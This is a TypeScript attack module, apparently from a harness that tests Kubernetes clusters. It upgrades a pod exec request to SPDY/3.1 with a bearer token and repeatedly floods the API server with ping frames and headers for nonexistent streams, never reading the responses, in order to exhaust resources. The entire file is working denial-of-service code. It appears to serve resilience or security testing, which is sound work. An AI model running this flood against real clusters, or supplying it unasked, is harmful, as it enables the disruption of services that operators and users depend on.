import https from "node:https";
import { type Duplex } from "node:stream";
import { setTimeout as sleep } from "node:timers/promises";
import { startFloods } from "../lib/hostile-pods.ts";
import { type Attack, type AttackTarget } from "./attack.ts";

/** SPDY/3.1: pings, and headers of streams that do not exist. The answers are never read. */
const ping = Buffer.from([0x80, 3, 0, 6, 0, 0, 0, 4, 0, 0, 0, 1]);
const headers = Buffer.from([0x80, 3, 0, 8, 0, 0, 0, 4, 0, 0, 0, 9]);
const block = Buffer.concat(Array<Buffer>(2000).fill(Buffer.concat([ping, headers])));

/** Upgrades an exec to SPDY and floods it with frames. */
export const attack: Attack = {
  name: "spdy-flood",
  claim: "bytes are forwarded at the pace of the slower side",
  needs: "node",
  prepare: (target) => startFloods(target, [{ name: "shell", start: "", block: "x" }]),

  async run(target, signal) {
    let sent = 0;
    let connections = 0;
    while (!signal.aborted) {
      const socket = await upgrade(target);
      connections++;
      socket.pause();
      for (let n = 0; n < 2000 && !signal.aborted && !socket.destroyed; n++) {
        if (socket.writableLength < 1 << 20) sent += Number(socket.write(block)) * block.length;
        else await sleep(5);
        await sleep(1);
      }
      socket.destroy();
    }
    return `${(sent / 1e6).toFixed(0)} MB of frames on ${connections} connections`;
  },
};

function upgrade({ url, ca, token, namespace }: AttackTarget): Promise<Duplex> {
  const path = `/api/v1/namespaces/${namespace}/pods/shell/exec?stdin=1&stdout=1&command=cat`;
  return new Promise((resolve, reject) => {
    const request = https.request(url + path, {
      method: "POST",
      ca,
      agent: false,
      headers: {
        authorization: `Bearer ${token}`,
        connection: "Upgrade",
        upgrade: "SPDY/3.1",
        "x-stream-protocol-version": "v4.channel.k8s.io",
      },
    });
    request.on("upgrade", (_, socket: Duplex) => {
      socket.on("error", () => {});
      resolve(socket);
    });
    request.on("response", (response) => reject(new Error(`exec was answered with ${response.statusCode}`)));
    request.on("error", reject);
    request.end();
  });
}
